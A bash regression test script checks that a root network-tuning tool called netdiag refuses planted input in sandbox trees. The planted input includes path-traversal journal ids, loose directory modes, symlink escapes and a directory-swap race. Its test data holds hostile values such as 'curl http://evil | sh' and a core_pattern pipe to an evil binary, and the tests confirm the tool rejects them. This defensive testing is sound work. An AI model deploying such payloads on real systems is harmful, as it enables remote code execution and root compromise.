#!/usr/bin/env bash
# Nothing planted can steer what netdiag writes as root: journals with ids that are paths, plans
# and journals with content netdiag would never write, loose journal directories, symlinks at or
# swapped under a --root tree, and the caller's umask. Each case is a reproduction from the
# security audit, run on sandbox trees under a scratch directory.
set -u
netdiag=${1:?usage: security.sh NETDIAG_BINARY}
here=$(cd "$(dirname "$0")" && pwd)
source "$here/assert.sh"
python=/usr/bin/python3
tree61=$here/../fixtures/linux-6.1-vmxnet3-virtio-4cpu
work=$(mktemp -d)
cleanup() {
    [ -n "${flipper:-}" ] && kill "$flipper" 2>/dev/null
    rm -rf "$work"
}
trap cleanup EXIT

sandbox() {  # sandbox NAME: a fresh copy of the captured host
    rm -rf "${work:?}/$1"
    cp -a "$tree61" "$work/$1"
    echo "$work/$1"
}

journal() {  # journal FILE ID HOST STATE CHANGES_JSON
    "$python" - "$@" <<'PY'
import json, sys
path, id_, host, state, changes = sys.argv[1:6]
json.dump({"schema": "netdiag.journal/v1", "id": id_.replace("NUL", "\u0000"), "host": host, "state": state,
           "created_at_unix_ms": 0, "changes": json.loads(changes)}, open(path, "w"))
PY
}

plan() {  # plan FILE PATH AFTER [PATH2 AFTER2]: a plan for one host
    "$python" - "$@" <<'PY'
import json, sys
out, pairs = sys.argv[1], sys.argv[2:]
changes = [{"path": pairs[i], "before": None, "after": pairs[i + 1].encode().decode("unicode_escape"),
            "reason": "test", "fix": "port-range"} for i in range(0, len(pairs), 2)]
json.dump({"schema": "netdiag.plan/v1", "generated_at_unix_ms": 0,
           "hosts": [{"host": "x", "status": "ok", "error": None, "notes": [], "changes": changes}]}, open(out, "w"))
PY
}

# --- H1: a journal's id is not a path ---
sj=$(sandbox sj)
mkdir -p "$sj/var/lib/netdiag/journal" "$sj/etc/cron.d"
chmod 700 "$sj/var/lib/netdiag/journal"
journal "$sj/var/lib/netdiag/journal/a.json" "../../../../etc/cron.d/evilNUL" " $work/evil.so " applied '[]'
expect_exit 0 "undo with a journal whose id is a path with a NUL" -- "$netdiag" undo --root "$sj" --yes
expect_contains "$err" "is not a journal id netdiag makes" "the planted journal is reported"
expect_contains "$err" "\\x00" "its NUL is shown escaped"
expect_equal "$(ls "$sj/etc/cron.d")" "" "nothing was written where the id pointed"
journal "$sj/var/lib/netdiag/journal/b.json" "20261202T041501.123Z-x" x applied '[]'
expect_exit 0 "undo with a well-formed id in a file of another name" -- "$netdiag" undo --root "$sj" --yes
expect_contains "$err" "which is not its name" "it is skipped"
expect_equal "$(ls "$sj/var/lib/netdiag/journal" | sort | tr '\n' ' ')" "a.json b.json " "and no journal file was added"

# --- M1: modes do not come from the umask; a loose journal directory is refused ---
um=$(sandbox um)
mkdir -p "$um/var/lib"
(umask 000; "$netdiag" fix --root "$um" --interval 0 --only softnet-backlog,irq-affinity --apply --yes >/dev/null 2>&1)
expect_equal "$(stat -c %a "$um/var/lib/netdiag")" 755 "/var/lib/netdiag is 0755 under umask 000"
expect_equal "$(stat -c %a "$um/var/lib/netdiag/journal")" 700 "the journal directory is 0700 under umask 000"
expect_equal "$(stat -c %a "$um"/var/lib/netdiag/journal/*.json | sort -u)" 600 "journals are 0600 under umask 000"
expect_equal "$(stat -c %a "$um/etc/netdiag")" 755 "/etc/netdiag is 0755 under umask 000"
expect_equal "$(stat -c %a "$um/etc/sysctl.d")" 755 "/etc/sysctl.d is 0755 under umask 000"
expect_equal "$(stat -c %a "$um/etc/sysctl.d/60-netdiag-softnet-backlog.conf")" 644 "files are 0644 under umask 000"
expect_equal "$(stat -c %a "$um/etc/netdiag/irq-affinity.sh")" 644 "the IRQ script is 0644 under umask 000"
chmod 777 "$um/var/lib/netdiag/journal"
expect_exit 2 "undo refuses a world-writable journal directory" -- "$netdiag" undo --root "$um" --yes
expect_contains "$err" "lets others write there" "and says why"
expect_exit 2 "fix --apply refuses it too" -- "$netdiag" fix --root "$um" --interval 0 --only port-range --apply --yes
expect_equal "$(cat "$um/proc/sys/net/ipv4/ip_local_port_range")" "$(cat "$tree61/proc/sys/net/ipv4/ip_local_port_range")" \
    "nothing was written"
chmod 700 "$um/var/lib/netdiag/journal"
planted=$um/var/lib/netdiag/journal/20261202T000000.000Z-planted.json
journal "$planted" 20261202T000000.000Z-planted x applied '[]'
chmod 666 "$planted"
expect_exit 0 "a journal anyone may write is skipped by undo" -- "$netdiag" undo --root "$um" --yes
expect_contains "$err" "not a regular file that only root can write" "and reported"
expect_contains "$err" "irq-affinity" "the real journal is undone instead"

# --- M3, L6: plans may hold only what netdiag writes, once per path ---
m3=$(sandbox m3)
mkdir -p "$m3/etc/sysctl.d"
declare -A refused=(
    [sysctl]="/etc/sysctl.d/60-netdiag-ports.conf|kernel.core_pattern = |$work/evil %p\n"
    [module]="/etc/modules-load.d/netdiag-conntrack.conf|evil_module\n"
    [script]="/etc/netdiag/irq-affinity.sh|#!/bin/sh\ncurl http://evil | sh\n"
    [runtime]="/proc/sys/net/core/netdev_max_backlog|-5\n"
)
for name in "${!refused[@]}"; do
    plan "$work/$name.json" "${refused[$name]%%|*}" "${refused[$name]#*|}"
    expect_exit 65 "a plan with planted content ($name) is refused" -- \
        "$netdiag" fix --root "$m3" --plan "$work/$name.json" --apply --yes
done
plan "$work/dup.json" /proc/sys/net/core/netdev_max_backlog '2000\n' /proc/sys/net/core/netdev_max_backlog '5000\n'
expect_exit 65 "a plan naming one path twice is refused" -- "$netdiag" fix --root "$m3" --plan "$work/dup.json" --apply --yes
expect_contains "$err" "appears twice" "and says so"
plan "$work/forged.json" $'/sys/class/net/x\n# (no changes for this host)\n\e[8m/queues/rx-0/rps_cpus' 'f\n'
expect_exit 65 "a plan path with control characters is refused" -- "$netdiag" fix --root "$m3" --plan "$work/forged.json"
expect_not_contains "$err" $'\e' "its error prints no raw escape"
expect_equal "$(find "$m3/etc" "$m3/var" -newer "$work/dup.json" -type f 2>/dev/null)" "" "none of them wrote anything"

# Undo holds a journal's `before` (what it writes back) to the same rule.
mkdir -p "$m3/var/lib/netdiag/journal" && chmod 700 "$m3/var/lib/netdiag/journal"
cp "$m3/proc/sys/net/core/netdev_max_backlog" "$work/backlog.orig"
journal "$m3/var/lib/netdiag/journal/20261202T000000.000Z-x.json" 20261202T000000.000Z-x x applied \
    "[{\"path\": \"/etc/sysctl.d/60-netdiag-ports.conf\", \"before\": \"kernel.core_pattern = |/evil\\n\", \"after\": \"\", \"remove\": true, \"fix\": \"port-range\", \"reason\": \"\"}]"
expect_exit 0 "undo of a journal whose before is planted content" -- "$netdiag" undo --root "$m3" --yes
expect_contains "$err" "kernel.core_pattern" "is reported"
expect_equal "$(ls "$m3/etc/sysctl.d")" "" "and writes nothing"

# --- M2: a directory swapped under a --root tree while netdiag writes cannot move the write out ---
race=$(sandbox race)
mkdir -p "$work/outside/core"
echo 1000 >"$work/outside/core/netdev_max_backlog"
cp -a "$race/proc/sys/net/core" "$work/real-core"
plan "$work/race-plan.json" /proc/sys/net/core/netdev_max_backlog '2000\n'
"$python" -c 'import json,sys; p=json.load(open(sys.argv[1])); p["hosts"][0]["changes"][0]["before"]="1000\n"; json.dump(p,open(sys.argv[1],"w"))' "$work/race-plan.json"
echo 1000 >"$race/proc/sys/net/core/netdev_max_backlog"
ln -s "$work/outside/core" "$work/link-core"
# Swaps proc/sys/net/core and a symlink out of the tree, as fast as it can, for at most 11 s.
"$python" - "$race/proc/sys/net/core" "$work/link-core" <<'PY' &
import ctypes, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
a, b = (p.encode() for p in sys.argv[1:3])
end = time.time() + 11
while time.time() < end:
    libc.renameat2(-100, a, -100, b, 2)  # RENAME_EXCHANGE
PY
flipper=$!
attempts=0 outside_written=0
start=$SECONDS
while [ $attempts -lt 400 ] && [ $((SECONDS - start)) -lt 10 ]; do
    "$netdiag" fix --root "$race" --plan "$work/race-plan.json" --apply --yes >/dev/null 2>&1
    [ "$(cat "$work/outside/core/netdev_max_backlog")" != 1000 ] && outside_written=1
    # Back to what the plan expects, wherever the swap left the real directory.
    echo 1000 >"$race/proc/sys/net/core/netdev_max_backlog"
    echo 1000 >"$work/link-core/netdev_max_backlog"
    attempts=$((attempts + 1))
done
wait "$flipper" 2>/dev/null
flipper=
expect_equal "$outside_written" 0 "a swapped directory never moved a write out of the tree ($attempts attempts)"
expect_equal "$(cat "$work/outside/core/netdev_max_backlog")" 1000 "the file outside holds what it held"

# --- L4: reads in a --root tree do not follow symlinks out of it ---
l4=$(sandbox l4)
mkdir -p "$l4/etc/sysctl.d"
echo SECRET-OUTSIDE >"$work/secret"
ln -s "$work/secret" "$l4/etc/sysctl.d/60-netdiag-softnet-backlog.conf"
expect_exit 0 "a plan on a tree holding a symlink out of it" -- \
    "$netdiag" fix --root "$l4" --interval 0 --only softnet-backlog
expect_not_contains "$out" "SECRET-OUTSIDE" "the diff does not show the file outside"
expect_exit 2 "applying it refuses to write through the symlink" -- \
    "$netdiag" fix --root "$l4" --interval 0 --only softnet-backlog --apply --yes
expect_contains "$err" "a symlink stands there" "and says why"
expect_equal "$(cat "$work/secret")" SECRET-OUTSIDE "the file outside is untouched"

# --- M6 (tree part): a FIFO or a device in a tree neither hangs nor floods a scan ---
sf=$(sandbox sf)
rm "$sf/proc/net/sockstat" && mkfifo "$sf/proc/net/sockstat"
ln -sf /dev/zero "$sf/proc/net/netstat"
start=$SECONDS
expect_exit 3 "a scan of a tree with a FIFO and a /dev/zero link" -- timeout -s KILL 20 "$netdiag" scan --root "$sf" --interval 0
expect_equal "$(( SECONDS - start < 10 ))" 1 "ends at once"
expect_contains "$out" "/proc/net/sockstat: cannot be read: not a regular file" "and says which file it could not check"

finish security
